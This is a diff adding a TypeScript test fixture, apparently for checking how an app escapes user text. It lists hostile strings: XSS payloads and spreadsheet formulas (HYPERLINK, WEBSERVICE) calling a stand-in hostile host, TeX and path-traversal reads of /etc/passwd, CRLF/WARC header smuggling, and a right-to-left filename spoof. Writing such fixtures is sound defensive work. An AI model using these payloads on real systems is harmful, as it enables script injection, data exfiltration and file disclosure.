@@ -1,0 +1,48 @@
+import { HOSTILE_HOST } from './vector.ts';
+
+const ran = (at: number): string => `fetch('//${HOSTILE_HOST}/ran/field-${at}')`;
+const load = (at: number): string => `http://${HOSTILE_HOST}/load/field-${at}`;
+
+/** Text for titles, names, tags and notes: hostile to HTML, XML, Markdown, YAML, CSV, TeX, RIS, HTTP and file names. */
+export const hostileFields: readonly string[] = [
+  (at: number) => `<script>${ran(at)}</script>`,
+  (at: number) => `<img src=x onerror="${ran(at)}">`,
+  (at: number) => `<svg onload=${ran(at)}>`,
+  (at: number) => `<iframe src="javascript:${ran(at)}"></iframe>`,
+  (at: number) => `<img src="${load(at)}">`,
+  (at: number) => `"><img src=x onerror=${ran(at)}>`,
+  (at: number) => `'><img src=x onerror=${ran(at)}>`,
+  (at: number) => `" onfocus="${ran(at)}" autofocus="`,
+  (at: number) => `</title><script>${ran(at)}</script>`,
+  (at: number) => `</style></textarea></noscript><img src=x onerror=${ran(at)}>`,
+  (at: number) => `--><img src=x onerror=${ran(at)}><!--`,
+  (at: number) => `]]><img src=x onerror=${ran(at)}><![CDATA[`,
+  (at: number) => `&lt;script&gt;${ran(at)}&lt;/script&gt;`,
+  (at: number) => `&#60;img src=x onerror=${ran(at)}&#62;`,
+  (at: number) => `javascript:${ran(at)}`,
+  (at: number) => `data:text/html,<script>${ran(at)}</script>`,
+  (at: number) => `[字](javascript:${ran(at)})`,
+  (at: number) => `![字](${load(at)})`,
+  (at: number) => `<${load(at)}>`,
+  () => '\n# 标题\n\n---\n',
+  () => '"\ntags: [a]\nx: "',
+  () => '*_`~|\\',
+  (at: number) => `=HYPERLINK("${load(at)}")`,
+  (at: number) => `;=WEBSERVICE("${load(at)}")`,
+  () => ' =1+1',
+  () => '+1+1',
+  () => '-1+1',
+  () => '@SUM(1)',
+  () => '\t=1+1',
+  () => '"=1+1"',
+  () => '\\input{/etc/passwd}',
+  () => '}, author={别人}, note={',
+  () => '\nER  - \nTY  - BOOK',
+  () => 'a\r\nWARC-Type: response\r\n\r\n',
+  () => '../../../etc/passwd',
+  () => 'CON',
+  () => 'a\u0000b\u0001c\ud800',
+  () => '\u202etxt.exe',
+  () => '字'.repeat(5000),
+  () => '\u0301'.repeat(500),
+].map((text, at) => text(at + 1));
